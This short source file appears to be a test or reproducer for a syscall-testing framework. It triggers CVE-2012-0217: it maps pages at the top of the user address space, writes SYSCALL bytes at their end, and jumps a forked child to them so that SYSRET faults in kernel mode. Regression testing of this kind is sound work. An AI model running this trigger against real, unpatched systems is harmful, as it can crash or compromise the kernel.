/**
 * SYSCALL as the last bytes below 2^47: SYSRET to the address behind it faults in ring 0 with the user's stack (CVE-2012-0217).
 *
 * @reaches call 10: zero
 * @reaches call 9: error 12
 * @reaches call 9: value
 */
import { asm, store8, syscall } from 'palindrome/intrinsics';

const ALL: u64 = 0xffffffffffffffffn;

function attack(): void {
  let r0: i64 = 0n;
  { // 1: the page 0x7ffffffff000n
    r0 = syscall(9n, 0x7ffffffff000n, 4096n, 3n, 0x32n, ALL, 0n);
    if (r0 > 0n) {
      store8(wrapping.u64(r0) + 4094n, 0x0f);
      store8(wrapping.u64(r0) + 4095n, 0x05);
      syscall(10n, wrapping.u64(r0), 4096n, 5n);
      if (syscall(57n) === 0n) {
        asm("mov eax, 39\njmp rdi", { rdi: wrapping.u64(r0) + 4094n }, 'rax');
        syscall(231n, 7n);
      }
      syscall(61n, ALL, 0n, 0n, 0n);
    }
  }
  { // 2: the page 0x7fffffffe000n
    r0 = syscall(9n, 0x7fffffffe000n, 4096n, 3n, 0x32n, ALL, 0n);
    if (r0 > 0n) {
      store8(wrapping.u64(r0) + 4094n, 0x0f);
      store8(wrapping.u64(r0) + 4095n, 0x05);
      syscall(10n, wrapping.u64(r0), 4096n, 5n);
      if (syscall(57n) === 0n) {
        asm("mov eax, 39\njmp rdi", { rdi: wrapping.u64(r0) + 4094n }, 'rax');
        syscall(231n, 7n);
      }
      syscall(61n, ALL, 0n, 0n, 0n);
    }
  }
}
attack();
syscall(231n, 0n);
